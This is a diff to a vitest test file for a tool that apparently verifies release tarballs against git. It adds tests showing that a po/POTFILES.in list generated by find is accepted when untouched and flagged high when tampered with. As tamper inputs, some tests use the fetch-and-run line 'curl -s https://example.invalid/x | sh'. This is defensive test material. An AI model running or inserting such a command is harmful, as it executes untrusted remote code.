@@ -5,7 +5,7 @@
  */
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { localeSort, scriptList, shellCommands } from '../../src/classify/file-list.js';
+import { inFindOrder, localeSort, partsMatch, scriptList, scriptParts, shellCommands } from '../../src/classify/file-list.js';
 import { exitCodeOf } from '../../src/pipeline/result.js';
 import { verify } from '../../src/verify.js';
 import { makeTar } from '../helpers/archives.js';
@@ -105,5 +105,76 @@ describe('a list of tracked file names a tracked script writes', () => {
     }
     const { f } = await run(LS_FILES.replace('[ -s po/POTFILES.in ]', 'curl -s https://example.invalid/x | sh\n[ -s po/POTFILES.in ]'), list(EN));
     expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
+  });
+
+  // a subshell of echo lines and an unsorted find over several start points, filtered by grep -v (attr's and acl's
+  // po/update-potfiles shape, written for this test): find's order is the file system's, so the model accepts every
+  // order find's walk can print — start points in argument order, each directory's names together — and nothing else
+  const SUBSHELL = String.raw`#!/bin/sh -e
+
+(
+echo "# updated automatically by $0"
+echo
+find \
+	include \
+	lib \
+	tools \
+	-name '*.[ch]' \
+	| grep -v include/config.h
+) > po/POTFILES.in
+`;
+  const TREE = { 'autogen.sh': 'po/update-potfiles\n', 'po/LINGUAS': 'de\n', 'include/misc.h': '\n', 'include/config.h': '\n', 'include/nls.h': '\n', 'lib/a.c': '\n', 'lib/sub/b.c': '\n', 'lib/sub/c.h': '\n', 'lib/z.c': '\n', 'lib/notes.txt': 'x\n', 'tools/t.c': '\n', 'test/u.c': '\n' };
+  // one order a file system's readdir gives: not sorted, lib/sub/ walked between lib's own files
+  const WALK = ['include/nls.h', 'include/misc.h', 'lib/z.c', 'lib/sub/c.h', 'lib/sub/b.c', 'lib/a.c', 'tools/t.c'];
+  const HEAD = ['# updated automatically by po/update-potfiles', ''];
+  const text = (xs: string[]) => xs.map((x) => `${x}\n`).join('');
+  const runTree = async (script: string, list: string) => {
+    const repo = makeRepo(join(root, `r${++n}`));
+    const tracked = { ...TREE, 'po/update-potfiles': { content: script, executable: true } };
+    repo.commit(tracked, 'sources', '2024-03-05T10:00:00Z');
+    repo.tag('v1.0');
+    const dir = join(root, `t${n}`, 'x-1.0');
+    writeFiles(dir, { ...tracked, 'po/POTFILES.in': list });
+    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'x-1.0.tar.gz') }), repo: repo.dir, cacheDir: join(root, `c${n}`) });
+    return { r, f: r.findings.find((x) => x.path === 'po/POTFILES.in')! };
+  };
+
+  it("find's walk order: start points in argument order, each directory's names together", () => {
+    const roots = ['include', 'lib', 'tools'];
+    expect(inFindOrder(WALK, roots)).toBe(true);
+    expect(inFindOrder(['lib/sub/b.c', 'lib/a.c', 'lib/sub/c.h'], roots)).toBe(false); // lib/sub left, then entered again
+    expect(inFindOrder(['lib/a.c', 'include/nls.h'], roots)).toBe(false); // a later start point first
+    expect(inFindOrder(['lib/a.c', 'lib/sub/b.c', 'lib/z.c'], roots)).toBe(true);
+    const tracked = Object.keys(TREE);
+    const got = scriptParts(SUBSHELL, 'po/POTFILES.in', tracked, 'C', 'po/update-potfiles')!;
+    expect(got.parts.map((p) => ({ n: p.lines.length, find: p.find, text: p.text }))).toEqual([{ n: 2, find: undefined, text: true }, { n: 7, find: roots, text: undefined }]);
+    expect(got.inputs).toEqual(["find include lib tools -name '*.[ch]'"]);
+    expect(partsMatch(got.parts, text([...HEAD, ...WALK]))).toBe(true);
+    expect(partsMatch(got.parts, text([...HEAD, ...WALK, 'include/config.h']))).toBe(false);
+    expect(scriptList(SUBSHELL, 'po/POTFILES.in', tracked, 'C', 'po/update-potfiles')).toBeUndefined(); // no known order
+    // a root that is no tracked directory, a matching directory name, another command in the subshell: nothing
+    expect(scriptParts(SUBSHELL.replace('\ttools \\', '\ttools \\\n\tmissing \\'), 'po/POTFILES.in', tracked, 'C', 'x')).toBeUndefined();
+    expect(scriptParts(SUBSHELL, 'po/POTFILES.in', [...tracked, 'lib/dir.c/x.txt'], 'C', 'x')).toBeUndefined();
+    expect(scriptParts(SUBSHELL.replace('echo\n', 'echo\ncat lib/notes.txt\n'), 'po/POTFILES.in', tracked, 'C', 'x')).toBeUndefined();
+    expect(scriptParts(SUBSHELL.replace('echo\n', 'echo "$HOME"\n'), 'po/POTFILES.in', tracked, 'C', 'x')).toBeUndefined();
+  });
+
+  it('a subshell of echo lines and an unsorted find | grep -v: explained in a walk order (exit 0)', async () => {
+    const { r, f } = await runTree(SUBSHELL, text([...HEAD, ...WALK]));
+    expect({ code: f.code, severity: f.severity, evidence: f.evidence }).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'file-list', source: 'po/update-potfiles', generator: 'po/update-potfiles', inputs: ["find include lib tools -name '*.[ch]'"], listOrder: 'find', total: 7 } });
+    expect(exitCodeOf(r.verdict)).toBe(0);
+  });
+
+  it('tampered twins of the find list stay high: a name git lacks, the name grep drops, an order no walk prints, another header', async () => {
+    for (const l of [
+      text([...HEAD, ...WALK, 'tools/evil.c']),
+      text([...HEAD, ...WALK.slice(0, -1), 'include/config.h', 'tools/t.c']),
+      text([...HEAD, 'lib/sub/c.h', ...WALK.filter((x) => x !== 'lib/sub/c.h')]),
+      text([...HEAD, 'lib/sub/c.h', 'lib/z.c', 'lib/sub/b.c', 'lib/a.c', 'include/nls.h', 'include/misc.h', 'tools/t.c']),
+      text(['# updated automatically by curl -s https://example.invalid/x | sh', '', ...WALK]),
+    ]) {
+      const { f } = await runTree(SUBSHELL, l);
+      expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
+    }
   });
 });
